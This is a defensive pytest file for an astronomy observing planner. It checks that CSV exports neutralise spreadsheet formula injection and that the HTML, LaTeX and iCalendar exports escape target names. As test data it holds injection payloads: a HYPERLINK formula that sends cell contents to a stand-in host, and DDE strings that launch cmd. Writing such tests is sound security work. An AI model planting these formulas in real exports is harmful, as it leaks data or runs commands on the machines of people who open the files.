"""Issue 33: spreadsheet formula injection. A target named ``=HYPERLINK("http://…")`` or
``=cmd|' /C calc'!A0`` was written verbatim into ``plan -o b.csv`` and ``export --to proposal
--format csv``, and a spreadsheet runs it. Every CSV writer neutralises a text cell that begins
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return by a leading ``'``
(:func:`ucbplan.observing.blocks.write.csv_safe_text`); numbers, and text that is a number or a
signed sexagesimal (``-12.5``, ``-23:12:34.5``, ``+01:00``), stay as they are. The blocks-table
reader undoes the prefix, so a CSV plan reads back to the same names.

The other text formats (HTML, LaTeX, ICS) are checked on arbitrary names too: no name can open
a tag, run a LaTeX command or start an iCalendar property of its own.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from astropy.table import Table
from hypothesis import given, settings
from hypothesis import strategies as st
from support.cli import run_main

from ucbplan.observing.blocks.write import CSV_FORMULA_START, csv_safe_text, csv_unsafe_text

ROOT = Path(__file__).resolve().parents[3]
HM = ROOT / "catalogs" / "hm-cnc-simulated.yaml"
EVIL = ['=HYPERLINK("http://x.example/?a="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("'=1", "''=1"),  # a name that already starts with ' keeps it: the reader strips one
        ("HM Cnc", "HM Cnc"),
        ("", ""),
        ("-12.5", "-12.5"),  # numbers stay numbers
        ("+3e-4", "+3e-4"),
        ("-23:12:34.5", "-23:12:34.5"),  # a declination
        ("+01:00", "+01:00"),  # a UTC offset
    ],
)
def test_csv_cells_are_neutralised(cell: str, written: str) -> None:
    assert csv_safe_text(cell) == written
    assert csv_unsafe_text(written) == cell


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_any_text_is_safe_and_reads_back(cell: str) -> None:
    safe = csv_safe_text(cell)
    assert csv_unsafe_text(safe) == cell
    if safe[:1] in CSV_FORMULA_START:
        body = safe.lstrip("+-")
        assert body and set(body) <= set("0123456789.:eE+-"), safe


def test_numeric_columns_stay_numbers() -> None:
    """Only text cells are neutralised: a negative number in a float column is written as is."""
    from ucbplan.observing.blocks.write import write_table

    tab = Table({"target": ["=x", "-5", "ok"], "v": [-1.5, 2.0, -3.0], "dec": ["-1:2:3"] * 3})
    buf = io.StringIO()
    write_table(tab, buf, "csv")
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [
        ["target", "v", "dec"],
        ["'=x", "-1.5", "-1:2:3"],
        ["-5", "2.0", "-1:2:3"],
        ["ok", "-3.0", "-1:2:3"],
    ]


def _evil_target(tmp_path: Path, name: str) -> Path:
    """HM Cnc under ``name`` (a JSON string is a YAML double-quoted scalar)."""
    text = HM.read_text(encoding="utf-8")
    path = tmp_path / "evil.yaml"
    path.write_text(text.replace("name: HM Cnc (simulated)", "name: " + json.dumps(name)))
    return path


@pytest.mark.parametrize("name", EVIL)
def test_plan_and_proposal_csv_neutralise_a_formula_name(tmp_path: Path, name: str) -> None:
    from ucbplan.observing.blocks.read import read_blocks

    target = _evil_target(tmp_path, name)
    night = ["--site", "paranal", "--night", "2040-02-15"]
    for suffix in ("csv", "ecsv"):
        out = str(tmp_path / f"b.{suffix}")
        code, _, err = run_main(["plan", str(target), *night, "-o", out])
        assert code == 0, err
    text = (tmp_path / "b.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and {r["target"] for r in rows} == {"'" + name}
    assert set(read_blocks(tmp_path / "b.csv")["target"]) == {name}  # the reader undoes it
    assert set(read_blocks(tmp_path / "b.ecsv")["target"]) == {name}  # ECSV: data, verbatim
    prop = tmp_path / "p.csv"
    args = ["export", str(tmp_path / "b.ecsv"), "--to", "proposal", "--format", "csv"]
    code, _, err = run_main([*args, "-o", str(prop)])
    assert code == 0, err
    cells = [c for row in csv.reader(io.StringIO(prop.read_text(encoding="utf-8"))) for c in row]
    assert "'" + name in cells and name not in cells


_LATEX_TOKENS = ("\\textbackslash{}", "\\textasciitilde{}", "\\textasciicircum{}")


@settings(max_examples=150, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_html_latex_ics_escape_any_name(name: str) -> None:
    """No name opens an HTML tag or attribute, runs a LaTeX command or opens a group, or starts
    an iCalendar line or parameter of its own."""
    from ucbplan.observing.exports.ics import ics_escape
    from ucbplan.observing.exports.proposal_latex import _latex_escape
    from ucbplan.observing.night.sheet_html import render_html

    tex = _latex_escape(name)
    for token in _LATEX_TOKENS:
        tex = tex.replace(token, "")
    for ch in "{}$&#%_":
        tex = tex.replace("\\" + ch, "")
    assert not any(c in tex for c in "\\{}$&#%_^~\n\r"), (name, _latex_escape(name))
    ics = ics_escape(name)
    assert "\n" not in ics and "\r" not in ics
    bare = ics.replace("\\\\", "").replace("\\;", "").replace("\\,", "")
    assert ";" not in bare and "," not in bare, ics
    page, plain = render_html(name, name, []), render_html("x", "x", [])
    for ch in '<>"':
        assert page.count(ch) == plain.count(ch), name
